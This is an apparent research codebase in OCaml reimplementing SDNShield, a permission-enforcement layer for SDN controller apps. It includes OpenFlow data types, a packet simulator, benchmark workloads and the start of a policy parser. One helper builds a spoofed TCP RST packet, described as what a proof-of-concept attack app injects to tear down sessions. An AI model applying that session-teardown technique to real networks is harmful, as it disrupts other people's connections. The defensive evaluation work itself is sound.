let ip_subsumes ~outer ~inner =
  (* [outer] covers every address [inner] covers: outer's mask bits are a
     subset of inner's and the masked prefixes agree. *)
  Int32.logand outer.mask inner.mask = outer.mask
  && Int32.logand outer.addr outer.mask = Int32.logand inner.addr outer.mask

let opt_subsumes outer inner eq =
  match (outer, inner) with
  | None, _ -> true
  | Some _, None -> false
  | Some o, Some i -> eq o i

(** [subsumes ~outer ~inner] — every packet matching [inner] also matches
    [outer]. *)
let subsumes ~(outer : t) ~(inner : t) =
  opt_subsumes outer.in_port inner.in_port Int.equal
  && opt_subsumes outer.dl_src inner.dl_src Int.equal
  && opt_subsumes outer.dl_dst inner.dl_dst Int.equal
  && opt_subsumes outer.dl_type inner.dl_type equal_eth_type
  && opt_subsumes outer.dl_vlan inner.dl_vlan Int.equal
  && opt_subsumes outer.nw_src inner.nw_src (fun o i ->
         ip_subsumes ~outer:o ~inner:i)
  && opt_subsumes outer.nw_dst inner.nw_dst (fun o i ->
         ip_subsumes ~outer:o ~inner:i)
  && opt_subsumes outer.nw_proto inner.nw_proto equal_ip_proto
  && opt_subsumes outer.tp_src inner.tp_src Int.equal
  && opt_subsumes outer.tp_dst inner.tp_dst Int.equal

let ip_compatible a b =
  (* Two masked ranges intersect iff they agree on the common mask bits. *)
  let common = Int32.logand a.mask b.mask in
  Int32.logand a.addr common = Int32.logand b.addr common

let opt_compatible a b eq =
  match (a, b) with
  | None, _ | _, None -> true
  | Some x, Some y -> eq x y

(** [compatible a b] — some packet can match both [a] and [b] (their
    match spaces overlap).  Used by the ownership filter: an app that
    may only touch its own flows must not install rules overlapping
    other apps' rules. *)
let compatible (a : t) (b : t) =
  opt_compatible a.in_port b.in_port Int.equal
  && opt_compatible a.dl_src b.dl_src Int.equal
  && opt_compatible a.dl_dst b.dl_dst Int.equal
  && opt_compatible a.dl_type b.dl_type equal_eth_type
  && opt_compatible a.dl_vlan b.dl_vlan Int.equal
  && opt_compatible a.nw_src b.nw_src ip_compatible
  && opt_compatible a.nw_dst b.nw_dst ip_compatible
  && opt_compatible a.nw_proto b.nw_proto equal_ip_proto
  && opt_compatible a.tp_src b.tp_src Int.equal
  && opt_compatible a.tp_dst b.tp_dst Int.equal

(** Fields that are *not* wildcarded, as (name, rendered value) pairs. *)
let bound_fields (m : t) =
  let add name pp v acc =
    match v with None -> acc | Some x -> (name, Fmt.to_to_string pp x) :: acc
  in
  []
  |> add "tp_dst" Fmt.int m.tp_dst
  |> add "tp_src" Fmt.int m.tp_src
  |> add "nw_proto" pp_ip_proto m.nw_proto
  |> add "nw_dst" (fun ppf i -> Fmt.pf ppf "%a/%a" pp_ipv4 i.addr pp_ipv4 i.mask) m.nw_dst
  |> add "nw_src" (fun ppf i -> Fmt.pf ppf "%a/%a" pp_ipv4 i.addr pp_ipv4 i.mask) m.nw_src
  |> add "dl_vlan" Fmt.int m.dl_vlan
  |> add "dl_type" pp_eth_type m.dl_type
  |> add "dl_dst" pp_mac m.dl_dst
  |> add "dl_src" pp_mac m.dl_src
  |> add "in_port" Fmt.int m.in_port

let pp ppf (m : t) =
  match bound_fields m with
  | [] -> Fmt.string ppf "*"
  | fields ->
    Fmt.pf ppf "@[<h>%a@]"
      (Fmt.list ~sep:Fmt.comma (fun ppf (k, v) -> Fmt.pf ppf "%s=%s" k v))
      fields
