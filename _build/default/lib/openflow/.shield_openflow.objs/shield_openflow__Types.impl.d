lib/openflow/types.ml: Fmt Int32 List Printf String
