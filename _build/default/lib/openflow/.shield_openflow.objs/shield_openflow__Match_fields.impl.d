lib/openflow/match_fields.ml: Fmt Int Int32 Option Packet Types
