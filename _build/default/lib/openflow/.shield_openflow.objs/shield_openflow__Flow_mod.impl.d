lib/openflow/flow_mod.ml: Action Fmt Match_fields
