lib/openflow/stats.ml: Fmt Int64 List Match_fields Types
