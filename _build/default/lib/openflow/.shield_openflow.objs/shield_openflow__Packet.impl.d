lib/openflow/packet.ml: Fmt String Types
