lib/openflow/message.ml: Flow_mod Fmt Match_fields Packet Stats Types
