lib/openflow/action.ml: Fmt List Packet Types
