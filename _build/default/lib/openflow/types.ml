(* Basic identifiers and scalar field types shared by the whole stack.

   The repository models an OpenFlow 1.0-style network: 48-bit MAC
   addresses, 32-bit IPv4 addresses with prefix masks, 16-bit transport
   ports and integer datapath identifiers.  Values are stored in native
   [int]/[int32] form; the formatting helpers render them in the usual
   dotted/colon notations so traces and test output stay readable. *)

type dpid = int
(** Datapath (switch) identifier. *)

type port_no = int
(** Physical port number on a switch. *)

type mac = int
(** 48-bit MAC address stored in the low bits of an [int]. *)

type ipv4 = int32
(** IPv4 address in host byte order. *)

type tp_port = int
(** Transport-layer (TCP/UDP) port. *)

type vlan = int

type eth_type =
  | Eth_ip
  | Eth_arp
  | Eth_other of int

type ip_proto =
  | Proto_tcp
  | Proto_udp
  | Proto_icmp
  | Proto_other of int

let eth_type_code = function
  | Eth_ip -> 0x0800
  | Eth_arp -> 0x0806
  | Eth_other c -> c

let eth_type_of_code = function
  | 0x0800 -> Eth_ip
  | 0x0806 -> Eth_arp
  | c -> Eth_other c

let ip_proto_code = function
  | Proto_tcp -> 6
  | Proto_udp -> 17
  | Proto_icmp -> 1
  | Proto_other c -> c

let ip_proto_of_code = function
  | 6 -> Proto_tcp
  | 17 -> Proto_udp
  | 1 -> Proto_icmp
  | c -> Proto_other c

let equal_eth_type a b = eth_type_code a = eth_type_code b
let equal_ip_proto a b = ip_proto_code a = ip_proto_code b

(* IPv4 helpers ----------------------------------------------------------- *)

let ipv4_of_octets a b c d : ipv4 =
  let ( << ) = Int32.shift_left and ( ||| ) = Int32.logor in
  Int32.of_int a << 24 ||| (Int32.of_int b << 16)
  ||| (Int32.of_int c << 8) ||| Int32.of_int d

let ipv4_of_string s : ipv4 =
  match String.split_on_char '.' s with
  | [ a; b; c; d ] ->
    let f x =
      match int_of_string_opt x with
      | Some v when v >= 0 && v <= 255 -> v
      | _ -> invalid_arg (Printf.sprintf "ipv4_of_string: %S" s)
    in
    ipv4_of_octets (f a) (f b) (f c) (f d)
  | _ -> invalid_arg (Printf.sprintf "ipv4_of_string: %S" s)

let ipv4_to_string (ip : ipv4) =
  let ( >> ) = Int32.shift_right_logical in
  let octet n = Int32.to_int (Int32.logand (ip >> n) 0xFFl) in
  Printf.sprintf "%d.%d.%d.%d" (octet 24) (octet 16) (octet 8) (octet 0)

(** [prefix_mask len] is the IPv4 mask with the [len] highest bits set,
    e.g. [prefix_mask 16 = 255.255.0.0]. *)
let prefix_mask len : ipv4 =
  if len <= 0 then 0l
  else if len >= 32 then 0xFFFFFFFFl
  else Int32.shift_left 0xFFFFFFFFl (32 - len)

(** [mask_prefix_len m] is the prefix length of a contiguous mask, or
    [None] when the mask is non-contiguous. *)
let mask_prefix_len (m : ipv4) =
  let rec count i =
    if i = 32 then Some 32
    else if Int32.logand (Int32.shift_right_logical m (31 - i)) 1l = 1l then
      count (i + 1)
    else if Int32.logand m (Int32.sub (Int32.shift_left 1l (32 - i)) 1l) = 0l
    then Some i
    else None
  in
  count 0

let ipv4_in_subnet ~addr ~subnet ~mask =
  Int32.logand addr mask = Int32.logand subnet mask

(* MAC helpers ------------------------------------------------------------ *)

let mac_of_int (i : int) : mac = i land 0xFFFFFFFFFFFF

let mac_to_string (m : mac) =
  Printf.sprintf "%02x:%02x:%02x:%02x:%02x:%02x"
    ((m lsr 40) land 0xFF) ((m lsr 32) land 0xFF) ((m lsr 24) land 0xFF)
    ((m lsr 16) land 0xFF) ((m lsr 8) land 0xFF) (m land 0xFF)

let mac_of_string s =
  match String.split_on_char ':' s with
  | [ _; _; _; _; _; _ ] as parts ->
    List.fold_left
      (fun acc p ->
        match int_of_string_opt ("0x" ^ p) with
        | Some v when v >= 0 && v <= 255 -> (acc lsl 8) lor v
        | _ -> invalid_arg (Printf.sprintf "mac_of_string: %S" s))
      0 parts
  | _ -> invalid_arg (Printf.sprintf "mac_of_string: %S" s)

let broadcast_mac : mac = 0xFFFFFFFFFFFF

(* Pretty-printers -------------------------------------------------------- *)

let pp_dpid ppf d = Fmt.pf ppf "s%d" d
let pp_port ppf p = Fmt.pf ppf "p%d" p
let pp_mac ppf m = Fmt.string ppf (mac_to_string m)
let pp_ipv4 ppf ip = Fmt.string ppf (ipv4_to_string ip)

let pp_eth_type ppf = function
  | Eth_ip -> Fmt.string ppf "ip"
  | Eth_arp -> Fmt.string ppf "arp"
  | Eth_other c -> Fmt.pf ppf "eth:0x%04x" c

let pp_ip_proto ppf = function
  | Proto_tcp -> Fmt.string ppf "tcp"
  | Proto_udp -> Fmt.string ppf "udp"
  | Proto_icmp -> Fmt.string ppf "icmp"
  | Proto_other c -> Fmt.pf ppf "proto:%d" c
