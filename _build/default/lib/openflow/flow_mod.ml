(* Flow-table modification messages.

   The [cookie] carries the issuing app's identity through the stack;
   SDNShield's ownership filter keys on it, exactly as the paper's
   ownership tracking keys on the rule issuer. *)

type command = Add | Modify | Delete

type t = {
  command : command;
  match_ : Match_fields.t;
  priority : int;
  actions : Action.t list;
  idle_timeout : int;  (** 0 = permanent. *)
  hard_timeout : int;  (** 0 = permanent. *)
  cookie : int;  (** Issuer tag; 0 = unowned/controller. *)
}

let default_priority = 100

let add ?(priority = default_priority) ?(idle_timeout = 0) ?(hard_timeout = 0)
    ?(cookie = 0) ~match_ ~actions () =
  { command = Add; match_; priority; actions; idle_timeout; hard_timeout;
    cookie }

let modify ?(priority = default_priority) ?(cookie = 0) ~match_ ~actions () =
  { command = Modify; match_; priority; actions; idle_timeout = 0;
    hard_timeout = 0; cookie }

let delete ?(priority = default_priority) ?(cookie = 0) ~match_ () =
  { command = Delete; match_; priority; actions = []; idle_timeout = 0;
    hard_timeout = 0; cookie }

let pp_command ppf = function
  | Add -> Fmt.string ppf "add"
  | Modify -> Fmt.string ppf "mod"
  | Delete -> Fmt.string ppf "del"

let pp ppf fm =
  Fmt.pf ppf "@[<h>%a prio=%d [%a] -> %a (cookie=%d)@]" pp_command fm.command
    fm.priority Match_fields.pp fm.match_ Action.pp_list fm.actions fm.cookie
