(* Statistics requests and replies, at the three granularities the paper's
   statistics filter distinguishes: flow level, port level, switch level. *)

open Types

type level = Flow_level | Port_level | Switch_level

let level_to_string = function
  | Flow_level -> "FLOW_LEVEL"
  | Port_level -> "PORT_LEVEL"
  | Switch_level -> "SWITCH_LEVEL"

type flow_stat = {
  match_ : Match_fields.t;
  priority : int;
  cookie : int;
  packet_count : int64;
  byte_count : int64;
  duration_sec : int;
}

type port_stat = {
  port_no : port_no;
  rx_packets : int64;
  tx_packets : int64;
  rx_bytes : int64;
  tx_bytes : int64;
  rx_dropped : int64;
  tx_dropped : int64;
}

type switch_stat = {
  dpid : dpid;
  flow_count : int;
  total_packets : int64;
  total_bytes : int64;
}

type request = {
  level : level;
  dpid_filter : dpid option;  (** [None] = all switches. *)
  match_filter : Match_fields.t option;  (** Flow-level narrowing. *)
}

type reply =
  | Flow_stats of (dpid * flow_stat list) list
  | Port_stats of (dpid * port_stat list) list
  | Switch_stats of switch_stat list

let request ?dpid ?match_filter level =
  { level; dpid_filter = dpid; match_filter }

let empty_port_stat port_no =
  { port_no; rx_packets = 0L; tx_packets = 0L; rx_bytes = 0L; tx_bytes = 0L;
    rx_dropped = 0L; tx_dropped = 0L }

(** Sum two port-stat records, used when aggregating a virtual big switch
    out of several physical ones. *)
let merge_port_stat a b =
  { port_no = a.port_no;
    rx_packets = Int64.add a.rx_packets b.rx_packets;
    tx_packets = Int64.add a.tx_packets b.tx_packets;
    rx_bytes = Int64.add a.rx_bytes b.rx_bytes;
    tx_bytes = Int64.add a.tx_bytes b.tx_bytes;
    rx_dropped = Int64.add a.rx_dropped b.rx_dropped;
    tx_dropped = Int64.add a.tx_dropped b.tx_dropped }

let merge_switch_stat ~dpid (stats : switch_stat list) =
  List.fold_left
    (fun acc s ->
      { dpid;
        flow_count = acc.flow_count + s.flow_count;
        total_packets = Int64.add acc.total_packets s.total_packets;
        total_bytes = Int64.add acc.total_bytes s.total_bytes })
    { dpid; flow_count = 0; total_packets = 0L; total_bytes = 0L }
    stats

let pp_level ppf l = Fmt.string ppf (level_to_string l)

let pp_reply ppf = function
  | Flow_stats l ->
    Fmt.pf ppf "flow-stats(%d switches)" (List.length l)
  | Port_stats l ->
    Fmt.pf ppf "port-stats(%d switches)" (List.length l)
  | Switch_stats l -> Fmt.pf ppf "switch-stats(%d)" (List.length l)
