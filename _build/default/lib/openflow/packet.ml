(* Synthetic data-plane packets.

   Packets carry just enough structure for the simulator: an Ethernet
   header, an optional IPv4 header, an optional transport header and an
   opaque payload.  This mirrors the fields an OpenFlow 1.0 switch can
   match on, which is all the permission filters ever inspect. *)

open Types

type tcp_flags = { syn : bool; ack : bool; fin : bool; rst : bool }

let no_flags = { syn = false; ack = false; fin = false; rst = false }

type transport = {
  tp_src : tp_port;
  tp_dst : tp_port;
  flags : tcp_flags;  (** Only meaningful for TCP. *)
}

type ip_header = {
  nw_src : ipv4;
  nw_dst : ipv4;
  nw_proto : ip_proto;
  ttl : int;
}

type t = {
  dl_src : mac;
  dl_dst : mac;
  dl_type : eth_type;
  dl_vlan : vlan option;
  ip : ip_header option;
  tp : transport option;
  payload : string;
}

let size pkt =
  (* Synthetic wire size: headers plus payload, used by byte counters. *)
  let eth = 14 in
  let ip = match pkt.ip with Some _ -> 20 | None -> 0 in
  let tp = match pkt.tp with Some _ -> 20 | None -> 0 in
  eth + ip + tp + String.length pkt.payload

(* Constructors ----------------------------------------------------------- *)

let ethernet ?vlan ~src ~dst ~eth_type ?(payload = "") () =
  { dl_src = src; dl_dst = dst; dl_type = eth_type; dl_vlan = vlan;
    ip = None; tp = None; payload }

let arp ~src ~dst ?(payload = "arp") () =
  ethernet ~src ~dst ~eth_type:Eth_arp ~payload ()

(** ARP request broadcast, as emitted by hosts looking up a neighbour.
    This is the packet shape the CBench-style generator floods with. *)
let arp_request ~src ~target:_ = arp ~src ~dst:broadcast_mac ()

let ip ?vlan ~src ~dst ~nw_src ~nw_dst ?(proto = Proto_tcp) ?(ttl = 64)
    ?(payload = "") () =
  { dl_src = src; dl_dst = dst; dl_type = Eth_ip; dl_vlan = vlan;
    ip = Some { nw_src; nw_dst; nw_proto = proto; ttl };
    tp = None; payload }

let tcp ?vlan ~src ~dst ~nw_src ~nw_dst ~tp_src ~tp_dst
    ?(flags = no_flags) ?(ttl = 64) ?(payload = "") () =
  { dl_src = src; dl_dst = dst; dl_type = Eth_ip; dl_vlan = vlan;
    ip = Some { nw_src; nw_dst; nw_proto = Proto_tcp; ttl };
    tp = Some { tp_src; tp_dst; flags }; payload }

let udp ?vlan ~src ~dst ~nw_src ~nw_dst ~tp_src ~tp_dst ?(ttl = 64)
    ?(payload = "") () =
  { dl_src = src; dl_dst = dst; dl_type = Eth_ip; dl_vlan = vlan;
    ip = Some { nw_src; nw_dst; nw_proto = Proto_udp; ttl };
    tp = Some { tp_src; tp_dst; flags = no_flags }; payload }

(** An HTTP request segment: TCP to port 80 with an ACK-ed payload. *)
let http_request ~src ~dst ~nw_src ~nw_dst ~tp_src ?(payload = "GET / HTTP/1.1")
    () =
  tcp ~src ~dst ~nw_src ~nw_dst ~tp_src ~tp_dst:80
    ~flags:{ no_flags with ack = true } ~payload ()

(** TCP RST crafted to tear down the session carried by [pkt].
    This is the packet the proof-of-concept attack app injects. *)
let rst_for pkt =
  match (pkt.ip, pkt.tp) with
  | Some iph, Some tph ->
    Some
      (tcp ~src:pkt.dl_dst ~dst:pkt.dl_src ~nw_src:iph.nw_dst
         ~nw_dst:iph.nw_src ~tp_src:tph.tp_dst ~tp_dst:tph.tp_src
         ~flags:{ no_flags with rst = true } ())
  | _ -> None

let is_rst pkt =
  match pkt.tp with Some { flags; _ } -> flags.rst | None -> false

let is_broadcast pkt = pkt.dl_dst = broadcast_mac

(* Field rewriting (used by Set-field actions) ---------------------------- *)

let with_nw_src v pkt =
  match pkt.ip with
  | Some iph -> { pkt with ip = Some { iph with nw_src = v } }
  | None -> pkt

let with_nw_dst v pkt =
  match pkt.ip with
  | Some iph -> { pkt with ip = Some { iph with nw_dst = v } }
  | None -> pkt

let with_dl_src v pkt = { pkt with dl_src = v }
let with_dl_dst v pkt = { pkt with dl_dst = v }

let with_tp_src v pkt =
  match pkt.tp with
  | Some tph -> { pkt with tp = Some { tph with tp_src = v } }
  | None -> pkt

let with_tp_dst v pkt =
  match pkt.tp with
  | Some tph -> { pkt with tp = Some { tph with tp_dst = v } }
  | None -> pkt

let decr_ttl pkt =
  match pkt.ip with
  | Some iph when iph.ttl > 0 -> Some { pkt with ip = Some { iph with ttl = iph.ttl - 1 } }
  | Some _ -> None
  | None -> Some pkt

let pp ppf pkt =
  Fmt.pf ppf "@[<h>%a->%a %a" pp_mac pkt.dl_src pp_mac pkt.dl_dst pp_eth_type
    pkt.dl_type;
  (match pkt.ip with
  | Some iph ->
    Fmt.pf ppf " %a->%a %a" pp_ipv4 iph.nw_src pp_ipv4 iph.nw_dst pp_ip_proto
      iph.nw_proto
  | None -> ());
  (match pkt.tp with
  | Some tph ->
    Fmt.pf ppf " %d->%d%s" tph.tp_src tph.tp_dst
      (if tph.flags.rst then " RST" else "")
  | None -> ());
  Fmt.pf ppf "@]"
