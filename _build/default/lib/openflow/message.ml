(* Control-channel messages between switches and the controller. *)

open Types

type packet_in_reason = No_match | Send_to_controller

type packet_in = {
  dpid : dpid;
  in_port : port_no;
  packet : Packet.t;
  reason : packet_in_reason;
  buffer_id : int option;
}

type packet_out = {
  dpid : dpid;
  port : port_no;
  packet : Packet.t;
  in_port : port_no option;  (** Set when replaying a buffered packet-in. *)
}

type error_kind =
  | Bad_request
  | Bad_action
  | Flow_mod_failed of string
  | Permission_denied of string

type t =
  | Hello
  | Echo_request of int
  | Echo_reply of int
  | Packet_in of packet_in
  | Packet_out of packet_out
  | Flow_mod of dpid * Flow_mod.t
  | Stats_request of Stats.request
  | Stats_reply of Stats.reply
  | Port_status of dpid * port_no * [ `Up | `Down ]
  | Flow_removed of dpid * Match_fields.t * int (* cookie *)
  | Error of error_kind

let pp_error ppf = function
  | Bad_request -> Fmt.string ppf "bad-request"
  | Bad_action -> Fmt.string ppf "bad-action"
  | Flow_mod_failed s -> Fmt.pf ppf "flow-mod-failed:%s" s
  | Permission_denied s -> Fmt.pf ppf "permission-denied:%s" s

let pp ppf = function
  | Hello -> Fmt.string ppf "hello"
  | Echo_request n -> Fmt.pf ppf "echo-req %d" n
  | Echo_reply n -> Fmt.pf ppf "echo-rep %d" n
  | Packet_in pi ->
    Fmt.pf ppf "packet-in s%d p%d %a" pi.dpid pi.in_port Packet.pp pi.packet
  | Packet_out po -> Fmt.pf ppf "packet-out s%d p%d" po.dpid po.port
  | Flow_mod (d, fm) -> Fmt.pf ppf "flow-mod s%d %a" d Flow_mod.pp fm
  | Stats_request r -> Fmt.pf ppf "stats-req %a" Stats.pp_level r.level
  | Stats_reply r -> Fmt.pf ppf "stats-rep %a" Stats.pp_reply r
  | Port_status (d, p, `Up) -> Fmt.pf ppf "port-up s%d p%d" d p
  | Port_status (d, p, `Down) -> Fmt.pf ppf "port-down s%d p%d" d p
  | Flow_removed (d, m, c) ->
    Fmt.pf ppf "flow-removed s%d [%a] cookie=%d" d Match_fields.pp m c
  | Error e -> Fmt.pf ppf "error %a" pp_error e
