(* Flow actions, OpenFlow 1.0 subset plus the classification helpers the
   permission action-filters rely on (DROP / FORWARD / MODIFY field). *)

open Types

type set_field =
  | Set_dl_src of mac
  | Set_dl_dst of mac
  | Set_nw_src of ipv4
  | Set_nw_dst of ipv4
  | Set_tp_src of tp_port
  | Set_tp_dst of tp_port

type t =
  | Output of port_no
  | Flood  (** All ports except ingress. *)
  | To_controller
  | Set of set_field

(** An empty action list drops the packet in OpenFlow 1.0 semantics. *)
let is_drop actions = actions = []

let forwards actions =
  List.exists (function Output _ | Flood -> true | _ -> false) actions

let modifies actions = List.exists (function Set _ -> true | _ -> false) actions

let modified_fields actions =
  List.filter_map (function Set f -> Some f | _ -> None) actions

let set_field_name = function
  | Set_dl_src _ -> "dl_src"
  | Set_dl_dst _ -> "dl_dst"
  | Set_nw_src _ -> "nw_src"
  | Set_nw_dst _ -> "nw_dst"
  | Set_tp_src _ -> "tp_src"
  | Set_tp_dst _ -> "tp_dst"

let apply_set field pkt =
  match field with
  | Set_dl_src v -> Packet.with_dl_src v pkt
  | Set_dl_dst v -> Packet.with_dl_dst v pkt
  | Set_nw_src v -> Packet.with_nw_src v pkt
  | Set_nw_dst v -> Packet.with_nw_dst v pkt
  | Set_tp_src v -> Packet.with_tp_src v pkt
  | Set_tp_dst v -> Packet.with_tp_dst v pkt

type effect_ = {
  out_ports : port_no list;
  flood : bool;
  to_controller : bool;
  packet : Packet.t;
}

(** Interpret [actions] over [pkt]: rewrites apply in order and affect
    every subsequent output, matching switch pipeline semantics. *)
let apply actions (pkt : Packet.t) : effect_ =
  let step eff = function
    | Output p -> { eff with out_ports = p :: eff.out_ports }
    | Flood -> { eff with flood = true }
    | To_controller -> { eff with to_controller = true }
    | Set f -> { eff with packet = apply_set f eff.packet }
  in
  let eff =
    List.fold_left step
      { out_ports = []; flood = false; to_controller = false; packet = pkt }
      actions
  in
  { eff with out_ports = List.rev eff.out_ports }

let pp_set ppf = function
  | Set_dl_src v -> Fmt.pf ppf "set dl_src=%a" pp_mac v
  | Set_dl_dst v -> Fmt.pf ppf "set dl_dst=%a" pp_mac v
  | Set_nw_src v -> Fmt.pf ppf "set nw_src=%a" pp_ipv4 v
  | Set_nw_dst v -> Fmt.pf ppf "set nw_dst=%a" pp_ipv4 v
  | Set_tp_src v -> Fmt.pf ppf "set tp_src=%d" v
  | Set_tp_dst v -> Fmt.pf ppf "set tp_dst=%d" v

let pp ppf = function
  | Output p -> Fmt.pf ppf "output:%d" p
  | Flood -> Fmt.string ppf "flood"
  | To_controller -> Fmt.string ppf "controller"
  | Set f -> pp_set ppf f

let pp_list ppf = function
  | [] -> Fmt.string ppf "drop"
  | actions -> Fmt.(list ~sep:comma pp) ppf actions
