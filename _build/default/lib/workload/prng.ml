(* Small deterministic PRNG (xorshift64) so workloads are reproducible
   across runs and independent of the global Random state. *)

type t = { mutable state : int64 }

let create ?(seed = 0x9E3779B97F4A7C15L) () =
  { state = (if seed = 0L then 1L else seed) }

let of_int seed = create ~seed:(Int64.of_int (seed + 1)) ()

let next t =
  let open Int64 in
  let x = t.state in
  let x = logxor x (shift_left x 13) in
  let x = logxor x (shift_right_logical x 7) in
  let x = logxor x (shift_left x 17) in
  t.state <- x;
  x

(** Uniform int in [0, bound). *)
let int t bound =
  if bound <= 0 then invalid_arg "Prng.int: bound must be positive";
  Int64.to_int (Int64.rem (Int64.logand (next t) Int64.max_int) (Int64.of_int bound))

let bool t = Int64.logand (next t) 1L = 1L

let pick t = function
  | [] -> invalid_arg "Prng.pick: empty list"
  | xs -> List.nth xs (int t (List.length xs))
