(* App behaviour traces for the permission-engine microbenchmark.

   "The app behavior trace is a sequence of flow insertions and
   statistics requests that guarantees 5% of the API calls violate the
   permissions" (§IX-B2).  Conforming calls stay inside the
   [Perm_gen] core (flow inserts within 10.0.0.0/8 at priority
   ≤ 60000; flow/port-level statistics reads); violating calls step
   outside it (inserts into 192.168.0.0/16 or over-priority; switch-
   level statistics reads). *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller

type expected = Should_allow | Should_deny

let conforming_insert rng : Api.call =
  let dpid = 1 + Prng.int rng 16 in
  let dst =
    ipv4_of_octets 10 (Prng.int rng 255) (Prng.int rng 255) (1 + Prng.int rng 250)
  in
  let match_ =
    Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip dst) ()
  in
  let fm =
    Flow_mod.add
      ~priority:(100 + Prng.int rng 1000)
      ~match_
      ~actions:[ Action.Output (1 + Prng.int rng 8) ]
      ()
  in
  Api.Install_flow (dpid, fm)

let violating_insert rng : Api.call =
  let dpid = 1 + Prng.int rng 16 in
  let dst = ipv4_of_octets 192 168 (Prng.int rng 255) (1 + Prng.int rng 250) in
  let match_ =
    Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip dst) ()
  in
  let fm =
    Flow_mod.add
      ~priority:(100 + Prng.int rng 1000)
      ~match_
      ~actions:[ Action.Output (1 + Prng.int rng 8) ]
      ()
  in
  Api.Install_flow (dpid, fm)

let conforming_stats rng : Api.call =
  let level = Prng.pick rng Stats.[ Flow_level; Port_level ] in
  Api.Read_stats (Stats.request ~dpid:(1 + Prng.int rng 16) level)

let violating_stats rng : Api.call =
  Api.Read_stats (Stats.request ~dpid:(1 + Prng.int rng 16) Stats.Switch_level)

type focus = [ `Insert | `Stats ]

(** [generate ~focus ~n ()] — [n] calls of the focused type with
    exactly [violation_rate] (default 5 %) violating calls, evenly
    interleaved.  Returns each call with its expected decision. *)
let generate ?(seed = 11) ?(violation_rate = 0.05) ~(focus : focus) ~n () :
    (Api.call * expected) array =
  let rng = Prng.of_int seed in
  let period =
    if violation_rate <= 0. then max_int
    else max 1 (int_of_float (1. /. violation_rate))
  in
  Array.init n (fun i ->
      let violating = (i + 1) mod period = 0 in
      match (focus, violating) with
      | `Insert, false -> (conforming_insert rng, Should_allow)
      | `Insert, true -> (violating_insert rng, Should_deny)
      | `Stats, false -> (conforming_stats rng, Should_allow)
      | `Stats, true -> (violating_stats rng, Should_deny))

(** A mixed insert/stats trace (used by the scalability experiment). *)
let generate_mixed ?(seed = 13) ?(violation_rate = 0.05) ~n () :
    (Api.call * expected) array =
  let rng = Prng.of_int seed in
  let period =
    if violation_rate <= 0. then max_int
    else max 1 (int_of_float (1. /. violation_rate))
  in
  Array.init n (fun i ->
      let violating = (i + 1) mod period = 0 in
      match (i mod 2 = 0, violating) with
      | true, false -> (conforming_insert rng, Should_allow)
      | true, true -> (violating_insert rng, Should_deny)
      | false, false -> (conforming_stats rng, Should_allow)
      | false, true -> (violating_stats rng, Should_deny))
