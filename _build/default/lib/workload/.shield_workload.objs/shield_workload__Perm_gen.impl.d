lib/workload/perm_gen.ml: List Prng Sdnshield Shield_openflow
