lib/workload/cbench.ml: Events List Message Metrics Packet Prng Runtime Shield_controller Shield_openflow Types Unix
