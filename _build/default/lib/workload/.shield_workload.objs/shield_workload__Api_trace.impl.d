lib/workload/api_trace.ml: Action Api Array Flow_mod Match_fields Prng Shield_controller Shield_openflow Stats
