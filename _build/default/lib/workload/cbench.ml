(* CBench-style OpenFlow message generator.

   The paper's end-to-end experiments drive the controller with a
   customized CBench: a synthetic load generator that emulates [n]
   switches, each emitting packet-ins (ARP-carrying, for the l2switch
   scenario) with churned source MACs so the learning switch keeps
   learning and keeps issuing flow-mods.  This module reproduces that
   workload shape:

   - [latency_run]: one outstanding packet-in at a time per round,
     measuring the response time of each (CBench latency mode);
   - [throughput_run]: flood a batch and measure completions/second
     (CBench throughput mode). *)

open Shield_openflow
open Shield_controller

type t = {
  switches : int;
  rng : Prng.t;
  mutable seq : int;
}

let create ?(seed = 42) ~switches () =
  { switches; rng = Prng.of_int seed; seq = 0 }

(** The next packet-in event: round-robin over switches, fresh source
    MAC, occasionally re-using a destination MAC already seen so
    learning-switch lookups sometimes hit. *)
let next_packet_in t : Events.t =
  t.seq <- t.seq + 1;
  let dpid = 1 + (t.seq mod t.switches) in
  let src = Types.mac_of_int (0x020000000000 lor t.seq) in
  let dst =
    if t.seq > 4 && Prng.bool t.rng then
      (* A MAC generated a few rounds ago: may be learned by now. *)
      Types.mac_of_int (0x020000000000 lor (t.seq - 1 - Prng.int t.rng 4))
    else Types.broadcast_mac
  in
  let packet = Packet.arp ~src ~dst () in
  Events.Packet_in
    { Message.dpid; in_port = 1 + Prng.int t.rng 4; packet;
      reason = Message.No_match; buffer_id = None }

let packet_ins t n = List.init n (fun _ -> next_packet_in t)

(** Latency mode: feed [rounds] packet-ins synchronously, recording the
    wall-clock time from injection to full handling (all apps done,
    cascaded events processed). *)
let latency_run t runtime ~rounds : Metrics.summary =
  let m = Metrics.create () in
  for _ = 1 to rounds do
    let ev = next_packet_in t in
    Metrics.time m (fun () -> Runtime.feed_sync runtime ev)
  done;
  Metrics.summarize m

(** Throughput mode: feed [total] packet-ins as fast as possible, then
    drain; returns events/second. *)
let throughput_run t runtime ~total : float =
  let start = Unix.gettimeofday () in
  for _ = 1 to total do
    Runtime.feed runtime (next_packet_in t)
  done;
  Runtime.drain runtime;
  let elapsed = Unix.gettimeofday () -. start in
  float_of_int total /. elapsed
