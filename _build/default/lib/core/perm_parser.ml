(* Recursive-descent parser for the SDNShield permission language
   (paper Appendix A).

     perm_stmt   := PERM token [LIMITING filter_expr]
     filter_expr := filter_expr AND/OR filter | NOT filter_expr
                  | ( filter_expr ) | filter

   with the filter categories of §IV-B.  Identifiers that are not
   keywords parse as macro stubs (the customization hooks of §V-A),
   e.g. [PERM network_access LIMITING AdminRange]. *)

open Lexer

let keywords =
  [ "PERM"; "LIMITING"; "AND"; "OR"; "NOT"; "MASK"; "WILDCARD"; "ACTION";
    "DROP"; "FORWARD"; "MODIFY"; "OWN_FLOWS"; "ALL_FLOWS"; "MAX_PRIORITY";
    "MIN_PRIORITY"; "MAX_RULE_COUNT"; "FROM_PKT_IN"; "ARBITRARY"; "SWITCH";
    "LINK"; "VIRTUAL"; "AS"; "SINGLE_BIG_SWITCH"; "EXTERNAL_LINKS";
    "EVENT_INTERCEPTION"; "MODIFY_EVENT_ORDER"; "FLOW_LEVEL"; "PORT_LEVEL";
    "SWITCH_LEVEL"; "TRUE"; "FALSE"; "LET"; "ASSERT"; "EITHER"; "MEET";
    "JOIN"; "APP" ]

let is_keyword id = List.mem (String.uppercase_ascii id) keywords

let expect_field s =
